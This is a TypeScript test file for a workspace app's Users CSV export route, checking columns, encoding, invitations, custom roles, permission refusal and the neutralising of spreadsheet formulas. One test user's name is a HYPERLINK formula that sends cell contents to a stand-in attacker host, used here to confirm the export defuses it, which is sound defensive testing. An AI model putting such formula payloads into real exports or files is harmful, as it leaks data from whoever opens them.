// The Users CSV download (docs/PRODUCT.md, Users page Export) through its route handler, read back with a
// real CSV parser.
import { parse } from "csv-parse/sync";
import { sql } from "kysely";
import { describe, expect, it } from "vitest";
import { GET } from "@/app/w/[workspaceId]/settings/users/export/route";
import { setupTestDb } from "@/tests/helpers/db";
import { addMember, asUser, createUser, createWorkspace } from "@/tests/helpers/request";
import { insertInvitation, insertTeam } from "./support";

const t = setupTestDb();

const SPEC_HEADER = [
  "name",
  "email",
  "access level",
  "role",
  "status",
  "restrictions",
  "teams",
  "last active",
  "availability",
  "joined or invited at",
  "invited by",
  "access until",
  "two-step sign-in",
];
const ISO_UTC = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{3})?Z$/;

async function download(workspaceId: string) {
  const res = await GET(new Request(`http://localhost/w/${workspaceId}/settings/users/export`), {
    params: Promise.resolve({ workspaceId }),
  });
  const bytes = new Uint8Array(await res.arrayBuffer());
  return { res, bytes, text: new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes) };
}

describe("GET /w/[workspaceId]/settings/users/export", () => {
  it("streams a UTF-8 CSV with BOM: SPEC header, every member and pending invitation, Arabic intact, formulas neutralised", async () => {
    const ws = await createWorkspace({ name: "Export" });
    const owner = await t.db
      .selectFrom("users")
      .select(["email", "name"])
      .where("id", "=", ws.ownerId)
      .executeTakeFirstOrThrow();
    const arabic = await createUser({ name: "ليلى عبد الله", email: "layla@example.com" });
    const evil = await createUser({
      name: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      email: "evil@example.com",
    });
    const quiet = await createUser({ name: null, email: "no.name@example.com" });
    await addMember(ws, arabic, "agent", ["see_team", "no_snippets"]);
    await addMember(ws, evil, "manager", ["no_export"]);
    await addMember(ws, quiet, "agent");
    await t.db
      .updateTable("workspace_members")
      .set({ invited_by: ws.ownerId, last_active_at: new Date("2026-03-04T05:06:07.000Z") })
      .where("user_id", "=", arabic.id)
      .execute();
    // Access until a date: ISO 8601 UTC in the last column.
    await t.db
      .updateTable("workspace_members")
      .set({ access_until: new Date("2027-01-31T22:59:59.999Z") })
      .where("user_id", "=", quiet.id)
      .execute();
    // Two-step sign-in: a confirmed app is "on"; a set-up never confirmed is still "off".
    await t.db
      .insertInto("user_totp")
      .values({ user_id: arabic.id, secret_sealed: "x", confirmed_at: new Date() })
      .execute();
    await t.db.insertInto("user_totp").values({ user_id: quiet.id, secret_sealed: "x" }).execute();
    await insertTeam(t.db, ws.workspaceId, "فريق الدعم", [arabic.id]);
    await insertTeam(t.db, ws.workspaceId, "Alpha", [arabic.id]);
    await insertInvitation(t.db, {
      workspaceId: ws.workspaceId,
      email: "pending@example.com",
      role: "manager",
      restrictions: ["no_settings"],
      invitedBy: ws.ownerId,
    });
    const gone = await insertInvitation(t.db, {
      workspaceId: ws.workspaceId,
      email: "cancelled@example.com",
      invitedBy: ws.ownerId,
    });
    await t.db
      .updateTable("invitations")
      .set({ cancelled_at: sql<Date>`now()` })
      .where("id", "=", gone.id)
      .execute();
    // Another workspace's people never appear.
    const other = await createWorkspace();
    await insertInvitation(t.db, {
      workspaceId: other.workspaceId,
      email: "elsewhere@example.com",
      invitedBy: other.ownerId,
    });

    await asUser(ws.ownerId);
    const { res, bytes, text } = await download(ws.workspaceId);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="users-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.headers.get("cache-control")).toBe("no-store");
    expect([...bytes.slice(0, 3)], "UTF-8 byte-order mark").toEqual([0xef, 0xbb, 0xbf]);
    expect(text).toContain("\r\n");
    expect(text).toContain("ليلى عبد الله"); // raw UTF-8, not escaped

    const [header, ...rows] = parse(text, { bom: true }) as string[][];
    expect(header).toEqual(SPEC_HEADER);
    const byEmail = new Map(rows.map((r) => [r[1], r]));
    expect([...byEmail.keys()].sort()).toEqual(
      ["evil@example.com", "layla@example.com", "no.name@example.com", owner.email, "pending@example.com"].sort(),
    );
    expect(rows).toHaveLength(5);

    expect(byEmail.get("layla@example.com")).toEqual([
      "ليلى عبد الله",
      "layla@example.com",
      "agent",
      "agent",
      "active",
      "see_team; no_snippets",
      "Alpha; فريق الدعم",
      "2026-03-04T05:06:07.000Z",
      "offline",
      expect.stringMatching(ISO_UTC),
      owner.email,
      "",
      "on",
    ]);
    const evilRow = byEmail.get("evil@example.com")!;
    expect(evilRow[0]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
    expect(evilRow.slice(2, 6)).toEqual(["manager", "manager", "active", "no_export"]);
    // The download itself counts as the Owner's activity (docs/PRODUCT.md, Presence), so "last active" is now.
    expect(byEmail.get(owner.email)!.slice(0, 8)).toEqual([
      owner.name ?? "",
      owner.email,
      "owner",
      "owner",
      "active",
      "",
      "",
      expect.stringMatching(ISO_UTC),
    ]);
    expect(byEmail.get("no.name@example.com")![0]).toBe("");
    expect(byEmail.get("no.name@example.com")![7], "never active → empty").toBe("");
    expect(byEmail.get("no.name@example.com")![11]).toBe("2027-01-31T22:59:59.999Z");
    expect(byEmail.get("no.name@example.com")![12]).toBe("off");
    expect(byEmail.get("pending@example.com")).toEqual([
      "",
      "pending@example.com",
      "manager",
      "manager",
      "pending",
      "no_settings",
      "",
      "",
      "",
      expect.stringMatching(ISO_UTC),
      owner.email,
      "",
      "",
    ]);
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("the role column names a custom role (members, deactivated members, invitations), neutralised; the level stays the base", async () => {
    const ws = await createWorkspace();
    const roleId = (
      await t.db
        .insertInto("workspace_roles")
        .values({ workspace_id: ws.workspaceId, name: "=Supervisor", base: "manager", permissions: ["reports.view"] })
        .returning("id")
        .executeTakeFirstOrThrow()
    ).id;
    const sup = await createUser({ email: "sup@example.com" });
    await addMember(ws, sup, "manager");
    await t.db.updateTable("workspace_members").set({ role_id: roleId }).where("user_id", "=", sup.id).execute();
    const inv = await insertInvitation(t.db, {
      workspaceId: ws.workspaceId,
      email: "inv@example.com",
      role: "manager",
      invitedBy: ws.ownerId,
    });
    await t.db.updateTable("invitations").set({ role_id: roleId }).where("id", "=", inv.id).execute();
    await asUser(ws.ownerId);
    const rows = parse((await download(ws.workspaceId)).text, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.find((r) => r.email === "sup@example.com")).toMatchObject({
      "access level": "manager",
      role: "'=Supervisor",
    });
    expect(rows.find((r) => r.email === "inv@example.com")).toMatchObject({
      "access level": "manager",
      role: "'=Supervisor",
    });
  });

  it("is refused (403) to a Manager restricted from data export, and works for one who is not", async () => {
    const ws = await createWorkspace();
    const restricted = await createUser();
    const free = await createUser();
    await addMember(ws, restricted, "manager", ["no_export"]);
    await addMember(ws, free, "manager");
    await asUser(restricted);
    expect((await download(ws.workspaceId)).res.status).toBe(403);
    await asUser(free);
    expect((await download(ws.workspaceId)).res.status).toBe(200);
  });
});
